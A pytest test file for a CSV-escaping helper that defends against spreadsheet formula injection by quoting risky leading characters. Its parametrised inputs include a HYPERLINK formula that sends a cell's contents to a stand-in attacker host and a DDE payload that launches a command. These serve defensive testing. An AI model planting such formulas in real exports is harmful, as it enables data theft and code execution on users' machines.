"""CSV cells that cannot run (jobs/data/cells.py): a leading = + - @ tab or CR gets a quote, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from jobs.data.cells import SafeWriter, safe_cell, unescape_cell


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?"&F2,"Open")', "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-", "+ 1"])
def test_a_cell_a_spreadsheet_could_run_gets_a_quote_in_front(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Anna K", "+34600111222", "-12", "1.5", "-0,5", "a=b", "", "'=already", 12, None])
def test_text_and_plain_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_quotes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["name", "phone"])
    writer.writerows([["=1+1", "+34600111222"], ["@x", "-1"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "phone"], ["'=1+1", "+34600111222"], ["'@x", "-1"]]
